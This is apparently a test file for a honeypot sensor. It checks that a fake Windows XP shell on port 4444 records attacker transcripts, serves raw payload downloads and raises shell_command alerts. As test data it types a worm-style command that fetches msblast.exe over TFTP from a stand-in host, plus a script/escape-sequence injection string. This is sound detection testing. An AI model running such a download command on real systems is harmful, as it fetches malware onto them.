// What a 4444 shell session looks like to a user of `vigil up`: the transcript in
// GET /api/v1/sessions/{id} and in `vigil sessions show ID` (escaped, line by line), the raw bytes
// as a download (GET .../payload, `vigil sessions show ID --raw`), all through a live node.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { pino } from 'pino';
import { loadConfig } from '../../src/cli/config.js';
import { startNode } from '../../src/cli/node.js';
import { escapedLines, register } from '../../src/cli/commands/sessions.js';
import type { SessionRecord } from '../../src/model/session.js';
import { api, freePort, tempDir } from './up-helpers.js';
import { vigilInProcess } from '../helpers/cli.js';

const inProcess = (args: readonly string[]): Promise<Buffer> => vigilInProcess(register, args);


function typeAndExit(port: number, bytes: Buffer): Promise<void> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1');
    s.on('error', reject);
    s.on('data', () => undefined);
    s.once('data', () => s.write(bytes));
    s.on('close', () => resolve());
  });
}

test('escapedLines splits only at escaped line ends, never at an escaped backslash before n', () => {
  assert.deepEqual(escapedLines('a\\r\\nb\\nc'), ['a', 'b', 'c']);
  assert.deepEqual(escapedLines('C:\\\\new\\\\x'), ['C:\\\\new\\\\x']);
});

test('a shell session shows its transcript in the API and the CLI, and its raw bytes download', async () => {
  const dataDir = tempDir('shell-view');
  const httpPort = await freePort();
  const config = loadConfig({ env: {}, flags: { dataDir, http: { host: '127.0.0.1', port: httpPort }, sensor: { ports: [4444] }, log: { level: 'silent' } } });
  const n = await startNode(config, { ephemeralPorts: true, sensorHosts: ['127.0.0.1'], logger: pino({ level: 'silent' }) });
  const sent = Buffer.concat([Buffer.from('tftp -i 192.0.2.9 GET msblast.exe\r\nver\r\n<script>x</script>\x1b[31m'), Buffer.from([0xfe]), Buffer.from('\r\nexit\r\n')]);
  let id = '';
  try {
    await typeAndExit(n.sensor.portFor(4444)!, sent);
    for (let i = 0; i < 200 && !id; i++) {
      const r = await api<{ items: { id: string }[] }>(n.httpAddress, n.token, '/api/v1/sessions?port=4444');
      id = r.body?.items?.[0]?.id ?? '';
      if (!id) await new Promise((r2) => setTimeout(r2, 25));
    }
    assert.ok(id, 'the shell session is stored');

    const one = await api<SessionRecord>(n.httpAddress, n.token, `/api/v1/sessions/${id}`);
    assert.equal(one.status, 200, one.text);
    const typed = one.body.transcript!.entries.filter((e) => e.dir === 'in').map((e) => e.text);
    assert.deepEqual(typed, ['tftp -i 192.0.2.9 GET msblast.exe', 'ver', '<script>x</script>\\x1b[31m\\xfe', 'exit']);
    assert.ok(one.body.transcript!.entries.some((e) => e.dir === 'out' && e.text.includes('Microsoft Windows XP [Version 5.1.2600]')));
    assert.ok(!one.text.includes('\\u001b'), 'the escape character never reaches the JSON raw');

    const raw = await fetch(`http://${n.httpAddress}/api/v1/sessions/${id}/payload`, { headers: { authorization: `Bearer ${n.token}` } });
    assert.equal(raw.status, 200);
    assert.equal(raw.headers.get('content-type'), 'application/octet-stream');
    assert.equal(raw.headers.get('content-disposition'), `attachment; filename="vigil-session-${id}.bin"`);
    assert.deepEqual(Buffer.from(await raw.arrayBuffer()), sent);
    const missing = await api(n.httpAddress, n.token, '/api/v1/sessions/nosuchsession/payload');
    assert.equal(missing.status, 404);
  } finally {
    await n.stop();
  }

  const text = (await inProcess(['sessions', 'show', id, '--data-dir', dataDir])).toString('utf8');
  assert.match(text, /transcript \d+ entries/);
  assert.match(text, /\+\d+\.\d{3}s {2}> tftp -i 192\.0\.2\.9 GET msblast\.exe/);
  assert.match(text, / {2}< Microsoft Windows XP \[Version 5\.1\.2600\]$/m, 'multi-line answers read as lines');
  assert.match(text, /> <script>x<\/script>\\x1b\[31m\\xfe/);
  assert.ok(!text.includes('\x1b'), 'no raw escape reaches the terminal');
  const json = JSON.parse((await inProcess(['sessions', 'show', id, '--json', '--data-dir', dataDir])).toString('utf8')) as SessionRecord;
  assert.equal(json.transcript!.entries.filter((e) => e.dir === 'in').length, 4);
  assert.deepEqual(await inProcess(['sessions', 'show', id, '--raw', '--data-dir', dataDir]), sent);
});

test('a command typed into the 4444 shell with no exploit before it raises shell_command, titled cleanly, with its indicators', async () => {
  const dataDir = tempDir('shell-alert');
  const httpPort = await freePort();
  const config = loadConfig({ env: {}, flags: { dataDir, http: { host: '127.0.0.1', port: httpPort }, sensor: { ports: [135, 4444] }, log: { level: 'silent' } } });
  const n = await startNode(config, { ephemeralPorts: true, sensorHosts: ['127.0.0.1'], logger: pino({ level: 'silent' }) });
  try {
    await typeAndExit(n.sensor.portFor(4444)!, Buffer.from('tftp -i 192.0.2.9 GET msblast.exe\r\nexit\r\n'));
    interface AlertLike { rule: string; severity: string; title: string; session?: string; indicators: { type: string; value: string }[]; evidence: Record<string, unknown> }
    let alert: AlertLike | undefined;
    for (let i = 0; i < 200 && !alert; i++) {
      const r = await api<{ items: AlertLike[] }>(n.httpAddress, n.token, '/api/v1/alerts?rule=shell_command');
      alert = r.body?.items?.find((a) => a.title.includes('msblast'));
      if (!alert) await new Promise((r2) => setTimeout(r2, 25));
    }
    assert.ok(alert, 'a shell_command alert without any exploit before it');
    assert.equal(alert.severity, 'high');
    assert.match(alert.title, /^command typed into a shell on 127\.0\.0\.1:4444: tftp -i 192\.0\.2\.9 GET msblast\.exe$/);
    const ind = alert.indicators.map((i) => `${i.type}=${i.value}`);
    for (const want of ['ipv4-addr=127.0.0.1', 'command=tftp -i 192.0.2.9 GET msblast.exe', 'url=tftp://192.0.2.9/msblast.exe', 'ipv4-addr=192.0.2.9', 'file-name=msblast.exe']) {
      assert.ok(ind.includes(want), `${want} in ${ind.join(', ')}`);
    }
    const exits = await api<{ items: AlertLike[] }>(n.httpAddress, n.token, '/api/v1/alerts?rule=shell_command');
    assert.ok(exits.body.items.some((a) => a.title.endsWith(': exit')), '`exit` is a typed command too');
  } finally {
    await n.stop();
  }
});
